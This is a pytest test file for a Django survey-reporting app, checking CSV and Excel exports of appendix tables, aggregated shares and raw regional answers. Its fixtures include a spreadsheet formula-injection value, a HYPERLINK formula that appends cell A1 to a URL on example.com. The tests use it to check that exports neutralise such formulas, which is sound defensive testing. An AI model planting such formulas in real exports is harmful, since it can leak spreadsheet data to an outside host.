import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from regions.models import Organisation
from reports.documents import answers, appendix, shares
from reports.spreadsheets import COUNT_FORMAT, PERCENT_FORMAT
from surveys.answers import Value
from surveys.services import response_get_or_create, response_save_answers
from tests.reports.conftest import submit

pytestmark = pytest.mark.django_db

LONG_TEXT = (
    "R" + ("egionen har infört mobila team i alla kommuner, r" * 102)[:4998] + "."
)
HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"Läs mer")'


def rows_of(data: bytes, *, excel: bool) -> list[list[str]]:
    text = data.decode("utf-8-sig" if excel else "utf-8")
    return list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ",")
    )


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def values(ws, row: int) -> list:
    return [cell.value for cell in ws[row]]


# Appendix ------------------------------------------------------------------------------


def test_appendix_csv_is_the_long_table_with_the_values_as_stored(region_results):
    data = appendix.appendix_csv(run=region_results, excel=False)

    rows = rows_of(data, excel=False)
    stored = list(
        region_results.appendix_cells.order_by("position").values_list(
            "question_code", "item", "organisation", "value"
        )
    )
    assert rows[0] == ["question", "item", "organisation", "value"]
    assert rows[1:] == [list(cell) for cell in stored]
    assert ["35", "", "Riket", "60 %"] in rows
    assert ["35", "", "Norrbotten", "Andelen kan inte uppskattas"] in rows


def test_appendix_csv_for_excel_holds_the_same_rows_with_bom_and_semicolons(
    region_results,
):
    plain = appendix.appendix_csv(run=region_results, excel=False)
    excel = appendix.appendix_csv(run=region_results, excel=True)

    assert excel.startswith("\ufeff".encode())
    assert (
        excel.decode("utf-8-sig").splitlines()[0] == "question;item;organisation;value"
    )
    assert rows_of(excel, excel=True) == rows_of(plain, excel=False)


def test_appendix_xlsx_has_a_sheet_per_question_laid_out_as_printed(region_results):
    wb = workbook(appendix.appendix_xlsx(run=region_results))

    question = region_results.questionnaire.questions.get(code="35")
    ws = wb["Fråga 35"]
    assert ws["A1"].value == f"Fråga 35. {question.text}"
    assert values(ws, 2) == ["Region", "Svar"]
    assert values(ws, 3) == ["Riket", "60 %"]
    assert values(ws, 4) == ["Stockholm", "59 %"]
    assert values(ws, 5) == ["Uppsala", "60 %"]
    assert ws["A3"].font.b and ws["A2"].font.b
    assert not ws["A4"].font.b
    regions = [ws.cell(row=r, column=1).value for r in range(4, 25)]
    assert len(regions) == 21 and regions[-1] == "Norrbotten"
    assert ws["B24"].value == "Andelen kan inte uppskattas"
    assert ws["B24"].data_type == "s"
    assert ws.freeze_panes == "B3"
    # The footnote of the definition and the legend, below the table.
    assert ws["A26"].value == question.footnote
    assert ws["A27"].value == ".. = uppgift saknas"


def test_appendix_xlsx_puts_items_as_columns(region_results):
    wb = workbook(appendix.appendix_xlsx(run=region_results))

    items = region_results.questionnaire.questions.get(code="8").items
    ws = wb["Fråga 8"]
    assert values(ws, 2) == ["Region", *items]
    assert values(ws, 3) == ["Riket"] + ["3/3"] * len(items)
    assert values(ws, 4) == ["Stockholm"] + ["Ja"] * len(items)
    # A region without a submitted answer: ".." (uppgift saknas), never an empty cell.
    assert values(ws, 6) == ["Sörmland"] + [".."] * len(items)


def test_appendix_xlsx_has_every_cell_in_a_long_sheet(region_results):
    wb = workbook(appendix.appendix_xlsx(run=region_results))

    assert wb.sheetnames[0] == "Fråga 2"
    assert wb.sheetnames[-1] == "Alla celler"
    ws = wb["Alla celler"]
    rows = [
        ["" if v is None else v for v in row] for row in ws.iter_rows(values_only=True)
    ]
    csv_rows = rows_of(
        appendix.appendix_csv(run=region_results, excel=False), excel=False
    )
    assert rows[0] == ["Fråga", "Delfråga", "Organisation", "Värde"]
    assert rows[1:] == csv_rows[1:]


# Shares --------------------------------------------------------------------------------


@pytest.fixture
def compiled(cycle_2024, staff):
    """Gotland (1 municipality) and Uppsala (8) have submitted their compilations."""
    rss = cycle_2024["rss"]
    submit(rss, "RSS-09", staff, {("S03-K06", "Ja"): Value(number=1)})
    submit(
        rss,
        "RSS-03",
        staff,
        {("S03-K06", "Ja"): Value(number=5), ("S03-K06", "Nej"): Value(number=3)},
    )
    from aggregation.services import aggregation_fresh_run

    return aggregation_fresh_run(questionnaire=cycle_2024["municipality"])


def test_shares_csv_has_the_header_and_rows_of_the_export(compiled):
    rows = rows_of(shares.shares_csv(run=compiled, excel=False), excel=False)

    assert rows[0] == [
        "question",
        "item",
        "option",
        "level",
        "unit",
        "count",
        "denominator",
        "percent",
        "source",
        "municipalities",
        "previous_percent",
    ]
    assert ["K06", "", "Ja", "riket", "SE", "6", "9", "67", "counts", "9", ""] in rows
    assert ["K06", "", "Nej", "county", "09", "0", "1", "0", "counts", "1", ""] in rows
    assert ["K06", "", "Nej", "rss", "RSS-01", "0", "0", "", "none", "0", ""] in rows
    item = compiled.questionnaire.questions.get(code="K01").items[0]
    assert ["K01", item, "Ja", "riket", "SE", "0", "0", "", "counts", "9", ""] in rows


def test_shares_csv_for_excel_round_trips_to_the_same_rows(compiled):
    plain = shares.shares_csv(run=compiled, excel=False)
    excel = shares.shares_csv(run=compiled, excel=True)

    assert excel.startswith(b"\xef\xbb\xbf")
    assert b";" in excel.splitlines()[0]
    assert rows_of(excel, excel=True) == rows_of(plain, excel=False)


def test_shares_xlsx_has_a_readable_sheet_per_question_with_options_as_columns(
    compiled,
):
    wb = workbook(shares.shares_xlsx(run=compiled))

    question = compiled.questionnaire.questions.get(code="K06")
    ws = wb["K06"]
    assert ws["A1"].value == f"K06. {question.text}"
    assert "kommuner" in ws["A2"].value
    assert "Underlag:" in ws["A2"].value
    assert values(ws, 3) == [
        "Nivå",
        "Enhet",
        "Underlag",
        "Kommuner",
        "Ja",
        None,
        None,
        "Nej",
        None,
        None,
    ]
    assert values(ws, 4) == [
        None,
        None,
        None,
        None,
        "Antal",
        "Nämnare",
        "Procent",
        "Antal",
        "Nämnare",
        "Procent",
    ]
    assert ws.freeze_panes == "E5"
    assert values(ws, 5) == ["Riket", "Riket", "RSS:ens antal", 9, 6, 9, 67, 3, 9, 33]
    assert ws["A5"].font.b
    uppsala = next(
        row
        for row in ws.iter_rows(min_row=5, values_only=True)
        if row[1] == "Uppsala län"
    )
    assert uppsala == ("Län", "Uppsala län", "RSS:ens antal", 8, 5, 8, 63, 3, 8, 38)
    rss = Organisation.objects.get(code="RSS-09").name
    gotland = next(
        row for row in ws.iter_rows(min_row=5, values_only=True) if row[1] == rss
    )
    assert gotland == ("RSS", rss, "RSS:ens antal", 1, 1, 1, 100, 0, 1, 0)
    stockholm = Organisation.objects.get(code="RSS-01").name
    without_data = next(
        row for row in ws.iter_rows(min_row=5, values_only=True) if row[1] == stockholm
    )
    assert without_data == (
        "RSS",
        stockholm,
        "Uppgift saknas",
        0,
        0,
        0,
        None,
        0,
        0,
        None,
    )
    assert ws["E5"].data_type == "n"
    assert ws["G5"].number_format == PERCENT_FORMAT


def test_shares_xlsx_names_the_item_and_leaves_percent_empty_without_answers(
    compiled,
):
    wb = workbook(shares.shares_xlsx(run=compiled))

    item = compiled.questionnaire.questions.get(code="K01").items[0]
    ws = next(
        wb[name]
        for name in wb.sheetnames
        if wb[name]["A2"].value == f"Delfråga: {item}"
    )
    assert ws.title.startswith("K01 ")
    assert len(ws.title) <= 31
    assert values(ws, 6)[:7] == ["Riket", "Riket", "RSS:ens antal", 9, 0, 0, None]


def test_shares_xlsx_has_the_long_table_with_units_named(compiled):
    wb = workbook(shares.shares_xlsx(run=compiled))

    ws = wb["Alla andelar"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == (
        "Fråga",
        "Delfråga",
        "Svarsalternativ",
        "Nivå",
        "Enhet",
        "Enhetens namn",
        "Antal",
        "Nämnare",
        "Procent",
        "Underlag",
        "Kommuner",
        "Procent föregående år",
    )
    counts = "RSS:ens antal"
    assert (
        "K06",
        None,
        "Ja",
        "Riket",
        "SE",
        "Riket",
        6,
        9,
        67,
        counts,
        9,
        None,
    ) in rows
    assert (
        ("K06", None, "Ja", "Län", "03", "Uppsala län", 5, 8, 63, counts, 8, None)
    ) in rows
    assert len(rows) == compiled.share_rows.count() + 1


# Raw answers ---------------------------------------------------------------------------


@pytest.fixture
def answered(cycle_2024, staff):
    """Stockholm and Norrbotten submitted (with long and formula-like free text), Uppsala
    has a draft; the other regions have no response."""
    region = cycle_2024["region"]
    submit(
        region,
        "01",
        staff,
        {
            ("2", ""): Value(text="Ja"),
            ("3", ""): Value(text=LONG_TEXT),
            ("17", ""): Value(text=HYPERLINK),
            ("22", ""): Value(text="+46 8 123 45 67"),
            ("25", ""): Value(text="-1 vårdcentral"),
            ("27", ""): Value(text="@SUMMA(A1)"),
            ("35", ""): Value(number=59),
            ("36", ""): Value(number=1712000),
        },
    )
    submit(
        region,
        "25",
        staff,
        {("2", ""): Value(text="Nej"), ("35", ""): Value(cannot_estimate=True)},
    )
    draft = response_get_or_create(
        questionnaire=region, organisation=Organisation.objects.get(code="03")
    )
    response_save_answers(
        response=draft,
        values={("2", ""): Value(text="Nej"), ("35", ""): Value(number=40)},
        by=staff,
        version=draft.version,
    )
    return region


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def test_answers_csv_has_a_row_per_response_with_organisation_and_status(answered):
    rows = rows_of(
        answers.answers_csv(questionnaire=answered, excel=False), excel=False
    )

    assert rows[0][:7] == [
        "organisation_code",
        "organisation",
        "county",
        "rss",
        "status",
        "submitted_at",
        "submitted_by",
    ]
    assert [row[:5] for row in rows[1:]] == [
        ["01", "Stockholm", "Stockholms län", "", "submitted"],
        ["03", "Uppsala", "Uppsala län", "", "draft"],
        ["25", "Norrbotten", "Norrbottens län", "", "submitted"],
    ]
    submitted_at = answered.responses.get(organisation__code="01").submitted_at
    assert rows[1][5] == timezone.localtime(submitted_at).strftime("%Y-%m-%d %H:%M")
    assert rows[1][6] == "staff@socialstyrelsen.se"
    assert rows[2][5:7] == ["", ""]


def test_answers_csv_has_a_column_per_question_and_item(answered):
    rows = rows_of(
        answers.answers_csv(questionnaire=answered, excel=False), excel=False
    )

    header = rows[0]
    q8 = answered.questions.get(code="8")
    q1 = answered.questions.get(code="1")
    assert header[7 : 7 + len(q1.items)] == [f"1: {item}" for item in q1.items]
    assert "2" in header and "2b" in header and "35" in header
    assert [f"8: {item}" for item in q8.items] == [
        name for name in header if name.startswith("8: ")
    ]
    expected = sum(len(q.answer_items) for q in answered.questions.all())
    assert len(header) == 7 + expected


def test_answers_csv_values_as_displayed_numbers_plain_and_labels(answered):
    rows = rows_of(
        answers.answers_csv(questionnaire=answered, excel=False), excel=False
    )

    assert column(rows, "2") == ["Ja", "Nej", "Nej"]
    assert column(rows, "35") == ["59", "40", "Andelen kan inte uppskattas"]
    assert column(rows, "36")[0] == "1712000"
    # The follow-up 2b is shown only after "Ja": empty for the others.
    assert column(rows, "2b") == ["Text", "", ""]
    # A multiple choice: "Ja" for the ticked alternative, "." for the others.
    q18 = answered.questions.get(code="18")
    assert column(rows, f"18: {q18.items[0]}") == ["Ja", "", "Ja"]
    assert column(rows, f"18: {q18.items[1]}") == [".", "", "."]


def test_answers_csv_keeps_a_5000_character_free_text_in_full(answered):
    for excel in (False, True):
        rows = rows_of(
            answers.answers_csv(questionnaire=answered, excel=excel),
            excel=excel,
        )
        assert column(rows, "3")[0] == LONG_TEXT
        assert len(LONG_TEXT) == 5000


@pytest.mark.parametrize("excel", [False, True])
def test_answers_csv_neutralises_formula_like_free_text(answered, excel):
    rows = rows_of(
        answers.answers_csv(questionnaire=answered, excel=excel), excel=excel
    )

    assert column(rows, "17")[0] == "'" + HYPERLINK
    assert column(rows, "22")[0] == "'+46 8 123 45 67"
    assert column(rows, "25")[0] == "'-1 vårdcentral"
    assert column(rows, "27")[0] == "'@SUMMA(A1)"


def test_answers_xlsx_has_codes_and_question_texts_as_two_header_rows(answered):
    ws = workbook(answers.answers_xlsx(questionnaire=answered)).active

    assert ws.title == "Svar region 2024"
    assert ws["A1"].value == answered.title
    header = values(ws, 2)
    assert header[:7] == [
        "Kod",
        "Organisation",
        "Län",
        "RSS",
        "Status",
        "Inskickad",
        "Inskickad av",
    ]
    texts = values(ws, 3)
    q35 = answered.questions.get(code="35")
    assert texts[header.index("35")] == q35.text
    assert texts[:7] == [None] * 7
    assert all(cell.font.b for cell in ws[2])
    assert ws.freeze_panes == "C4"


def test_answers_xlsx_rows_hold_numbers_as_numbers_and_dates_as_dates(answered):
    ws = workbook(answers.answers_xlsx(questionnaire=answered)).active

    header = values(ws, 2)
    stockholm, uppsala, norrbotten = (values(ws, row) for row in (4, 5, 6))
    assert stockholm[:5] == ["01", "Stockholm", "Stockholms län", None, "Inskickad"]
    assert uppsala[4] == "Utkast"
    assert isinstance(stockholm[5], datetime.datetime)
    submitted_at = answered.responses.get(organisation__code="01").submitted_at
    assert stockholm[5] == timezone.localtime(submitted_at).replace(
        tzinfo=None, microsecond=0
    )
    assert stockholm[6] == "staff@socialstyrelsen.se"
    assert uppsala[5] is None

    c35 = header.index("35") + 1
    assert ws.cell(row=4, column=c35).value == 59
    assert ws.cell(row=4, column=c35).data_type == "n"
    assert ws.cell(row=4, column=c35).number_format == PERCENT_FORMAT
    assert ws.cell(row=5, column=c35).value == 40
    assert norrbotten[c35 - 1] == "Andelen kan inte uppskattas"
    c36 = header.index("36") + 1
    assert ws.cell(row=4, column=c36).value == 1712000
    assert ws.cell(row=4, column=c36).number_format == COUNT_FORMAT
    assert stockholm[header.index("2")] == "Ja"


def test_answers_xlsx_keeps_free_text_in_full_and_formulas_as_text(answered):
    ws = workbook(answers.answers_xlsx(questionnaire=answered)).active

    header = values(ws, 2)

    def cell(code):
        return ws.cell(row=4, column=header.index(code) + 1)

    assert cell("3").value == LONG_TEXT
    assert cell("3").alignment.wrap_text
    for code, text in [
        ("17", HYPERLINK),
        ("22", "+46 8 123 45 67"),
        ("25", "-1 vårdcentral"),
        ("27", "@SUMMA(A1)"),
    ]:
        assert cell(code).value == "'" + text
        assert cell(code).data_type == "s"


def test_answers_of_a_questionnaire_without_responses_are_the_header_only(
    cycle_2024,
):
    data = answers.answers_csv(questionnaire=cycle_2024["municipality"], excel=False)

    rows = rows_of(data, excel=False)
    assert len(rows) == 1
    assert rows[0][0] == "organisation_code"
    ws = workbook(answers.answers_xlsx(questionnaire=cycle_2024["municipality"])).active
    assert ws.max_row == 3


def test_answers_xlsx_reports_progress(answered):
    seen = []

    answers.answers_xlsx(
        questionnaire=answered, progress=lambda done, total: seen.append((done, total))
    )

    assert seen[-1] == (3, 3)


def test_answers_are_read_in_the_same_few_queries_for_3_or_21_organisations(
    answered, staff, django_assert_max_num_queries
):
    from surveys.models import Questionnaire

    def fresh():
        return Questionnaire.objects.get(pk=answered.pk)

    few = fresh()
    with django_assert_max_num_queries(3):
        answers.answers_csv(questionnaire=few, excel=False)
    few = fresh()
    with django_assert_max_num_queries(4):
        answers.answers_xlsx(questionnaire=few)

    for code in (
        Organisation.objects.filter(kind="region")
        .exclude(code__in=["01", "03", "25"])
        .values_list("code", flat=True)
    ):
        submit(answered, code, staff)
    many = fresh()
    assert many.responses.count() == 21
    with django_assert_max_num_queries(3):
        data = answers.answers_csv(questionnaire=many, excel=False)
    assert len(rows_of(data, excel=False)) == 22
    many = fresh()
    with django_assert_max_num_queries(4):
        answers.answers_xlsx(questionnaire=many)
